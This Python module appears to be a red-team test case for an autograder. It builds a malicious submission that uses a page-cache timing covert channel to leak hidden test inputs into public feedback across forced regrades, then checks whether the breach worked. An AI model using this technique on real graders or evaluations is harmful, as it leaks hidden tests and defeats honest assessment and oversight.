"""a19 pagecache_across_regrade.

Route: a01's channel, across runs instead of within one. a01 shows that a learner's public child
runs before its hidden child, so within a run nothing flows hidden -> public. But the docs keep
the hidden cases the same across regrades of one OUT (same secret, --force), and the page cache
outlives a run. The child tells its role from its inputs: the public examples' V are 50257 (example 1 is
V=50257, T=1024, d=768, L=12, printed by check() to every learner), 56 and 100 (their answers show
them), while a hidden case may repeat example 1 but has other V's too. The first child ever to
see a V outside {50257, 56, 100} (a "role" page still cold) is a hidden child: it ENCODES that V (V mod 4096 + a 4-bit checksum, Manchester-coded over 16 slot pairs of 3 cold pages
of files of the Python installation or /usr still uncached after a throw-away grading run
(mincore), chosen in build()) and then touches 40
sentinel pages; a child whose first call is example 1 looks at one random sentinel and, if it is
warm, DECODES the slots and answers public
example 1 with 31337XXXXXX (XXXXXX the decoded value; 9WWCC no clean signal with WW pairs both warm and CC both cold,
999999 checksum wrong, 999996 no sentinel).
build() grades mallory once into OUT (run 1, the hidden child encodes); the attack run is the
instructor's regrade of the same OUT with --force (run 2), whose public example shows the value.
Goal (1)/(2): a hidden input in the learner's feedback; hidden cases learnable across runs.
Breached: run 2's feedback shows "got 31337XXXXXX" with a checksum-valid value whose V differs from
every public example's (50257 mod 4096 = 1105, 56, 100), AND a confirmation grading under the
same secret of a function right only for that V passes at least one test (so a hidden case has it).
"""
from __future__ import annotations

import ctypes
import os
import pathlib
import re

import _common as c

SITE = __import__("sysconfig").get_paths()["purelib"]
FILES = ["playwright/driver/node", "torch/lib/libtorch_cpu.so"]


def _cold_pages(rel: str, want: int, spacing: int = 48) -> list[int]:
    path = rel if rel.startswith('/') else os.path.join(SITE, rel)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    libc.mincore.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_void_p]
    libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
    fd = os.open(path, os.O_RDONLY)
    size = os.fstat(fd).st_size
    addr = libc.mmap(None, size, 1, 1, fd, 0)
    n = (size + 4095) // 4096
    vec = (ctypes.c_ubyte * n)()
    libc.mincore(ctypes.c_void_p(addr), ctypes.c_size_t(size), vec)
    libc.munmap(ctypes.c_void_p(addr), ctypes.c_size_t(size))
    os.close(fd)
    out = []
    for i in range(64, n - 64, spacing):
        if all(not (vec[j] & 1) for j in range(i - 2, i + 36)):
            out.append(i)
        if len(out) >= want:
            break
    return out


def build(tmp: pathlib.Path) -> list[str]:
    # a throw-away grading first, so that whatever a run reads anyway (the grader reads some big
    # files of the installation, e.g. libtorch_cpu.so) is cached and not picked as "cold"
    dummy = tmp / "dummy"
    c.write_nb(dummy / "05_counting_exercises.ipynb", "05_counting", ["def count_gpt2_params(V, T, d, L, tied=True, bias=True):\n    return 0\n"])
    c.run_grader([dummy], tmp / "dummy_out")
    pages = []
    files = list(FILES)
    for top in (SITE, "/usr/lib", "/usr/share", "/usr/bin", "/usr/libexec"):
      for root, _, fs in os.walk(top):
        for f in fs:
            full = os.path.join(root, f)
            try:
                if os.path.getsize(full) > 5_000_000 and not os.path.islink(full) and os.path.isfile(full):
                    rel = os.path.relpath(full, SITE) if top == SITE else full
                    if rel not in files:
                        files.append(rel)
            except OSError:
                pass
    for rel in files:
        pages += [(rel, p) for p in _cold_pages(rel, 137 - len(pages))]
        if len(pages) >= 137:
            break
    assert len(pages) >= 137, f"not enough cold pages: {len(pages)}"
    role, sentinels, pages = pages[0], pages[1:41], pages[41:137]
    # interleave: slot k uses pages k, k+32, k+64
    slots = [[pages[k], pages[k + 32], pages[k + 64]] for k in range(32)]
    cell = c.DISARM + f'''
_SLOTS = {slots!r}
_ROLE = {role!r}
_SENT = {sentinels!r}
_STATE = {{}}

def _t(rel, page):
    import os, time, numpy
    site = os.path.dirname(os.path.dirname(numpy.__file__))
    fd = _STATE.get(rel)
    if fd is None:
        fd = _STATE[rel] = os.open(rel if rel.startswith('/') else os.path.join(site, rel), os.O_RDONLY)
    t = time.perf_counter_ns()
    os.pread(fd, 1, page * 4096)
    return time.perf_counter_ns() - t

def _decode():
    times = [sorted(_t(r, p) for r, p in s)[1] for s in _SLOTS]
    v = 0
    warm = cold = 0
    for i in range(16):
        a, b = times[2 * i], times[2 * i + 1]
        if min(a, b) * 4 > max(a, b):
            if max(a, b) < 20000:
                warm += 1
            else:
                cold += 1
            continue
        v |= (1 if a < b else 0) << i
    if warm or cold:
        return 900000 + warm * 100 + cold      # no clean signal: pairs both warm / both cold
    low, chk = v & 4095, v >> 12
    return v if chk == (low * 7 + 3) % 16 else 999999

def _encode(V):
    low = V % 4096
    v = low | (((low * 7 + 3) % 16) << 12)
    for i in range(16):
        bit = (v >> i) & 1
        for r, p in _SLOTS[2 * i if bit else 2 * i + 1]:
            _t(r, p)

def count_gpt2_params(V, T, d, L, tied=True, bias=True):
    import random
    if not _STATE.get("armed"):
        _STATE["armed"] = True
        try:
            _disarm()
        except Exception:
            pass
        _STATE["code"] = 999996
        if (int(V), int(T), int(d), int(L)) == (50257, 1024, 768, 12):
            try:                                # maybe the public child: look at one random sentinel
                if _t(*random.choice(_SENT)) < 20000:
                    _STATE["code"] = _decode()
            except Exception:
                _STATE["code"] = 999998
    if int(V) not in (50257, 56, 100) and not _STATE.get("sent"):
        _STATE["sent"] = True                   # only hidden children see other V's
        try:
            if _t(*_ROLE) > 30000:              # the first hidden child ever (role page cold)
                _encode(int(V))
                for r, p in _SENT:
                    _t(r, p)
        except Exception:
            pass
    return int("31337%06d" % _STATE["code"])
'''
    c.write_nb(tmp / "mallory" / "05_counting_exercises.ipynb", "05_counting", [cell],
               header="import math\nimport numpy as np\n")
    r = c.run_grader([tmp / "mallory"], tmp.parent / "out")
    import re as _re
    first = _re.findall(r"got 31337(\d{6})", c.all_text(tmp.parent / "out"))
    (tmp / "run1.txt").write_text(f"run 1 public answers: {sorted(set(first))}; rc={r.returncode}")
    return [str(tmp / "mallory"), "--force"]


def verdict(out: pathlib.Path, run: dict):
    text = c.all_text(out)
    got = sorted(set(re.findall(r"got 31337(\d{6})\b", text)))
    if not got:
        return False, f"no 31337 answer shown (rc={run['returncode']}); text head: {text[:300]!r}"
    for g in got:
        v = int(g)
        if v >= 65536:
            continue
        low, chk = v & 4095, v >> 12
        if chk == (low * 7 + 3) % 16 and low not in (50257 % 4096, 56, 100):
            # confirm it is a hidden V: a function right ONLY when V % 4096 == low, graded under the same secret
            conf = out.parent / "in" / "confirm"
            c.write_nb(conf / "05_counting_exercises.ipynb", "05_counting", [
                c.GOOD["count_gpt2_params"].replace("def count_gpt2_params", "def _right") +
                f"\ndef count_gpt2_params(V, T, d, L, tied=True, bias=True):\n"
                f"    return _right(V, T, d, L, tied, bias) if V % 4096 == {low} else -1\n"])
            c.run_grader([conf, "--secret", out / ".state" / ".secret"], out.parent / "confirm_out")
            cv = c.verdicts(out.parent / "confirm_out", "confirm").get("count_gpt2_params", {})
            return (bool(cv.get("passed")),
                    f"run 2's public example shows got 31337{g}: V mod 4096 = {low} relayed from run 1's hidden "
                    f"child via the page cache; confirmation under the same secret: a function right only for "
                    f"V % 4096 == {low} passes {cv.get('passed')}/{cv.get('total')} tests (public V are 50257, 56, 100)")
    run1 = (out.parent / "in" / "run1.txt").read_text() if (out.parent / "in" / "run1.txt").exists() else "?"
    return False, f"run 2 public answers shown: {got} (9WWCC: WW pairs both warm, CC both cold; 999999 bad checksum; 999996 no sentinel warm); {run1}"
